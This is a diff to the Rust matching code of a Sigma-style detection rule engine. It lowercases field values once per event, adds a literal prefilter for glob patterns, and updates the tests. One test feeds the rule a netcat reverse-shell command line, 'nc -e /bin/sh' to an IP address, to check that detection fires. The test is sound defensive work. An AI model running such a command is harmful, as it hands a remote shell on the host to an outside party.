@@ -10,7 +10,8 @@ use std::net::IpAddr;
 use base64::Engine as _;
 use regex::{Regex, RegexBuilder};
 
-use crate::field::{Field, Subject};
+use crate::field::Field;
+use crate::values::{Val, Values};
 
 /// Compiled-program and DFA cache limits for one rule regex (the regex
 /// crate's matching is linear in the input whatever the pattern).
@@ -27,7 +28,12 @@ pub enum Pattern {
     Contains(String),
     /// Non-null (`*`).
     Any,
-    Glob(Regex),
+    /// `lit`: the longest run of its literal text that a value must hold
+    /// once ASCII-lowercased (see [`glob_literal`]); empty if none.
+    Glob {
+        re: Regex,
+        lit: String,
+    },
     Re(Regex),
     Cidr(IpAddr, u8),
 }
@@ -46,9 +52,10 @@ pub struct FieldMatch {
 }
 
 impl FieldMatch {
-    pub fn matches(&self, s: &dyn Subject) -> bool {
-        let v = s.field(self.field);
-        let one = |variants: &Vec<Pattern>| variants.iter().any(|p| p.matches(v.as_deref()));
+    /// `v` must hold this entry's field (absent there means null).
+    pub fn matches(&self, v: &Values<'_>) -> bool {
+        let v = v.get(self.field);
+        let one = |variants: &Vec<Pattern>| variants.iter().any(|p| p.test(v));
         if self.all {
             self.values.iter().all(one)
         } else {
@@ -61,35 +68,32 @@ fn lower(s: &str) -> String {
     s.to_ascii_lowercase()
 }
 
-fn contains_ci(hay: &str, needle: &str) -> bool {
-    let (h, n) = (hay.as_bytes(), needle.as_bytes());
-    if n.is_empty() {
-        return true;
-    }
-    if n.len() > h.len() {
-        return false;
-    }
-    h.windows(n.len()).any(|w| w.eq_ignore_ascii_case(n))
-}
-
 impl Pattern {
+    /// One value as recorded; lowercases it (rule evaluation uses
+    /// [`Pattern::test`] on values lowercased once per event).
     pub fn matches(&self, v: Option<&str>) -> bool {
+        let lower = v.map(str::to_ascii_lowercase);
+        self.test(
+            v.zip(lower.as_deref())
+                .map(|(raw, lower)| Val { raw, lower }),
+        )
+    }
+
+    /// Exact/prefix/suffix/contains needles are ASCII-lowercased at
+    /// compile time, so on the lowercased value a plain byte compare is
+    /// Sigma's ASCII case-insensitive one.
+    pub fn test(&self, v: Option<Val<'_>>) -> bool {
         match (self, v) {
-            (Pattern::Null, v) => v.is_none_or(str::is_empty),
+            (Pattern::Null, v) => v.is_none_or(|v| v.raw.is_empty()),
             (Pattern::Exists(want), v) => v.is_some() == *want,
             (_, None) => false,
-            (Pattern::Exact(p), Some(v)) => v.eq_ignore_ascii_case(p),
-            (Pattern::Prefix(p), Some(v)) => {
-                v.len() >= p.len() && v.as_bytes()[..p.len()].eq_ignore_ascii_case(p.as_bytes())
-            }
-            (Pattern::Suffix(p), Some(v)) => {
-                v.len() >= p.len()
-                    && v.as_bytes()[v.len() - p.len()..].eq_ignore_ascii_case(p.as_bytes())
-            }
-            (Pattern::Contains(p), Some(v)) => contains_ci(v, p),
+            (Pattern::Exact(p), Some(v)) => v.lower == p,
+            (Pattern::Prefix(p), Some(v)) => v.lower.starts_with(p.as_str()),
+            (Pattern::Suffix(p), Some(v)) => v.lower.ends_with(p.as_str()),
+            (Pattern::Contains(p), Some(v)) => v.lower.contains(p.as_str()),
             (Pattern::Any, Some(_)) => true,
-            (Pattern::Glob(r) | Pattern::Re(r), Some(v)) => r.is_match(v),
-            (Pattern::Cidr(net, bits), Some(v)) => match v.parse::<IpAddr>() {
+            (Pattern::Glob { re: r, .. } | Pattern::Re(r), Some(v)) => r.is_match(v.raw),
+            (Pattern::Cidr(net, bits), Some(v)) => match v.raw.parse::<IpAddr>() {
                 Ok(ip) => in_net(ip, *net, *bits),
                 Err(_) => false,
             },
@@ -207,7 +211,25 @@ fn string_pattern(mut parts: Vec<Result<String, Tok>>) -> Result<Pattern, Unsupp
         }
     }
     re.push('$');
-    build_regex(&re).map(Pattern::Glob)
+    let lit = glob_literal(parts.iter().filter_map(|p| p.as_ref().ok()));
+    build_regex(&re).map(|re| Pattern::Glob { re, lit })
+}
+
+/// The longest piece of a glob's literal text whose presence in the
+/// ASCII-lowercased value the glob's match implies. The glob regex is
+/// Unicode case-insensitive: `k` also matches the Kelvin sign and `s` the
+/// long s, and non-ASCII letters have other case forms, so pieces stop at
+/// those characters and at any non-ASCII one.
+pub(crate) fn glob_literal<'a>(lits: impl Iterator<Item = &'a String>) -> String {
+    let mut best = "";
+    for l in lits {
+        for piece in l.split(|c: char| !c.is_ascii() || matches!(c, 'k' | 'K' | 's' | 'S')) {
+            if piece.len() > best.len() {
+                best = piece;
+            }
+        }
+    }
+    best.to_ascii_lowercase()
 }
 
 fn build_regex(re: &str) -> Result<Regex, Unsupported> {
@@ -392,10 +414,18 @@ mod tests {
         compile(Field::CommandLine, mods, &[Scalar::Str(v.into())]).unwrap()
     }
 
+    /// `fm` of one value: whether `v` matches it.
     fn m(fm: &FieldMatch, v: &str) -> bool {
-        fm.values
+        // Both entry points agree: one lowercasing per call and one per event.
+        let mut t = crate::rule::tests::Fake::default();
+        t.fields.insert(fm.field, v.to_string());
+        let via_values = fm.matches(&Values::load(&t, crate::values::FieldSet::ALL));
+        let direct = fm
+            .values
             .iter()
-            .any(|vs| vs.iter().any(|p| p.matches(Some(v))))
+            .any(|vs| vs.iter().any(|p| p.matches(Some(v))));
+        assert_eq!(via_values, direct, "{v}");
+        direct
     }
 
     #[test]
@@ -437,14 +467,14 @@ mod tests {
         let s = |v: &str| {
             let mut t = crate::rule::tests::Fake::default();
             t.fields.insert(Field::CommandLine, v.to_string());
-            fm.matches(&t)
+            fm.matches(&Values::load(&t, crate::values::FieldSet::ALL))
         };
         assert!(s("nc -e /bin/sh 1.2.3.4 9"));
         assert!(!s("nc 1.2.3.4 9"));
         let any = compile(Field::CommandLine, &["contains"], &vals).unwrap();
         let mut t = crate::rule::tests::Fake::default();
         t.fields.insert(Field::CommandLine, "nc 1.2.3.4".into());
-        assert!(any.matches(&t));
+        assert!(any.matches(&Values::load(&t, crate::values::FieldSet::ALL)));
     }
 
     #[test]
